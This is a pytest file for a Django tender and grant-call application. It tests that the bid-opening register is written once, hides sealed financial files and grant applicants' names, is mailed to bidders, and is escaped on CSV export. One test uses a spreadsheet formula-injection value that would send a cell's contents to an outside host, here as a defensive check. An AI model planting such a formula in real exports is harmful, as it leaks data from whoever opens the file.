"""The register an opening writes: once, with every bid's reference and files (a sealed
financial envelope by its fingerprint alone), mailed to every bidder; a grant call's
register names no applicant, and its CSV cells never start like a formula."""

from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from tests.applications import opening_support
from tests.applications.deadline_support import close_at
from tests.factories import UserFactory, make_call, submit_bid
from tests.sealing_support import confirm

# The shared fixtures, used by name.
call, committee, members = opening_support.call, opening_support.committee, opening_support.members


def test_the_opening_writes_a_register_once_and_mails_it_to_every_bidder(
    client, call, committee, members
):
    from applications.models import OpeningRegister, Submission
    from applications.models.audit import AppendOnlyError
    from applications.services.audit_chain import audit_chain_extend
    from notifications.models import OutboxMessage

    for member in members:
        audit_chain_extend()  # what each commit does (this test's transaction never commits)
        confirm(call, member)

    register = OpeningRegister.objects.get(call=call)
    submission = Submission.objects.get(call=call)
    (line,) = register.lines
    assert line["reference"] == submission.reference
    assert line["bidder"] == submission.applicant.email  # no profile: the address
    technical, financial = line["files"]
    assert technical["name"].endswith("Technical proposal.pdf") and not technical["sealed"]
    assert financial["sealed"] and financial["name"] == ""
    assert financial["sha256"] == submission.files.get(envelope="financial").sha256
    assert str(submission.offer_amount.normalize()) not in str(register.lines)
    assert [m["name"] for m in register.members] == [m.get_full_name() for m in members]
    assert register.audit_head.startswith("#")

    mail = OutboxMessage.objects.get(dedupe_key__startswith="register:")
    assert mail.to_email == submission.applicant.email
    assert submission.reference in mail.body_text
    assert line["bidder"] in mail.body_text
    assert register.digest in mail.body_text
    assert "Financial proposal" in mail.body_text and "sealed financial envelope" in mail.body_text

    register.members = []
    with pytest.raises(AppendOnlyError):
        register.save()

    client.force_login(members[0])
    csv = client.get(reverse("zabuni_call_register", args=[call.pk]) + "?format=csv")
    assert csv.status_code == 200
    assert submission.reference in csv.content.decode()
    assert "(sealed)" in csv.content.decode()


def test_a_grant_calls_register_mails_references_but_no_names(site_root, members):
    from notifications.models import OutboxMessage

    grant = make_call(site_root["calls"], kind="grant", committee=members)
    applicant = UserFactory(first_name="Named", last_name="Activist")
    submit_bid(grant, applicant)
    grant = close_at(grant, timezone.now() - timedelta(minutes=5))

    for member in members:
        confirm(grant, member)

    mail = OutboxMessage.objects.get(dedupe_key__startswith="register:")
    assert f"{grant.reference_code}-0001" in mail.body_text
    assert "Activist" not in mail.body_text and "Activist" not in mail.body_html


def test_register_csv_cells_never_start_like_a_formula():
    from types import SimpleNamespace

    from applications.services.registers import register_csv

    register = SimpleNamespace(
        call_id=None,  # a register on its own: no bid to look up since
        lines=[
            {
                "reference": "DC-CFC-2026-001-0001",
                "bidder": '=HYPERLINK("https://x/?"&A2,"open")',
                "received_at": "2026-12-03T10:00:00+00:00",
                "status": "submitted",
                "files": [],
            }
        ],
    )
    assert "'=HYPERLINK" in register_csv(register)
